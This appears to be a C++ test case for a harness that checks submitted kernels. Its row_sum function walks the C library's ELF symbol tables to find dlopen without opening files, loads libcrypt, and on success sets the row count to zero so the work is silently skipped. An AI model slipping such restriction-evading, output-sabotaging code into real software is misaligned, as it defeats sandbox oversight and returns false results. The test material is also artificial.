// expect: measured:
// gain: honest_plain_loops.cpp
// Finds `dlopen` in the C library's own tables and calls it: no file can be opened, so it has to work itself.
//@ call row_sum args(x, s, R, C)

struct Phdr {
  unsigned type, flags;
  unsigned long offset, vaddr, paddr, filesz, memsz, align;
};
struct Info {
  unsigned long addr;
  const char* name;
  const Phdr* phdr;
  unsigned short phnum;
};
extern "C" int dl_iterate_phdr(int (*)(Info*, unsigned long, void*), void*);

static void* (*open_library)(const char*, int) = nullptr;
static int Look(Info* info, unsigned long, void*) {
  const char* strings = nullptr;
  const unsigned char* symbols = nullptr;
  for (int i = 0; i < info->phnum; ++i) {
    if (info->phdr[i].type != 2) continue;
    for (const unsigned long* d = (const unsigned long*)(info->addr + info->phdr[i].vaddr); d[0] != 0; d += 2) {
      if (d[0] == 5) strings = (const char*)d[1];
      if (d[0] == 6) symbols = (const unsigned char*)d[1];
    }
  }
  if (symbols == nullptr || strings == nullptr || (unsigned long)strings < info->addr) return 0;
  for (; symbols + 24 <= (const unsigned char*)strings; symbols += 24) {
    if (__builtin_strcmp(strings + *(const unsigned*)symbols, "dlopen") != 0) continue;
    const unsigned long value = *(const unsigned long*)(symbols + 8);
    if (value != 0) open_library = (void* (*)(const char*, int))(info->addr + value);
  }
  return open_library != nullptr;
}

extern "C" void row_sum(const float* x, float* s, int R, int C) {
  static bool tried = false;
  if (!tried) dl_iterate_phdr(Look, nullptr);
  if (!tried && open_library != nullptr && open_library("libcrypt.so.1", 2) != nullptr) R = 0;
  tried = true;
  for (int r = 0; r < R; ++r) {
    float sum = 0;
    for (int c = 0; c < C; ++c) sum += x[(long long)r * C + c];
    s[r] = sum;
  }
}
